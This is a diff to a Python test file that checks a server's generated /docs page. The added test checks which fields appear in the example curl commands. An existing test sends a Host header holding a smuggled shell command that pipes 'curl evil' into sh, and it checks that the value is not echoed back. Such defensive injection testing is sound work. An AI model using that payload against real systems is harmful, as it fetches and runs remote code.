@@ -54,3 +54,13 @@ def test_both_themes_and_small_screens(server):
 def test_a_strange_host_is_not_repeated(server):
     text = httpx.get(f"{server.url}/docs", headers={"Host": "x';curl evil|sh;'"}, timeout=60).text
     assert "evil" not in text
+
+
+def test_a_command_sends_only_what_would_be_taken(server):
+    text = httpx.get(f"{server.url}/docs", timeout=60).text
+    sections = {part.partition('"')[0]: part for part in text.split('<section id="')[1:]}
+    command = sections["execute_raw_inference_v1_inference_post"].partition("</pre>")[0]
+    assert "handbook" in command
+    upload = sections["upload_plugin_v1_namespaces__namespace_id__plugins_post"].partition("</pre>")[0]
+    assert "curl -X POST" in upload
+    assert "handbook" not in upload
